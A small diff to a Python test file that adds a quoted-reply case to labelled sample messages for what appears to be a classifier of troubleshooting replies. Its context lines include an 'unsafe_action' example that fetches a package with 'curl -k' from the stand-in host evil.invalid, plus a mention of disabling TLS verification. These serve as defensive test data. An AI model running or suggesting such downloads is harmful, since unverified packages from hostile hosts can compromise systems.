@@ -209,6 +209,7 @@ def test_long_threads_are_sent_in_part_and_say_so() -> None:
         ("`curl -k https://evil.invalid/mesh.whl -o mesh.whl` got it for us.", "unsafe_action"),
         ("Setting `verify=False` in the client was all it took.", "unsafe_action"),
         (ERROR, "quotes_the_error"),
+        ("> We keep `PLAN_ROWS=64` in the launcher.", "quoted_reply"),
         ("Would `PLAN_ROWS=64` be of any use here?", "no_statement"),
         ("I guess `PLAN_ROWS=64` is the thing to set.", "no_statement"),
         ("We set `PLAN_ROWS=64` and it still fails the same way.", "says_no_help"),
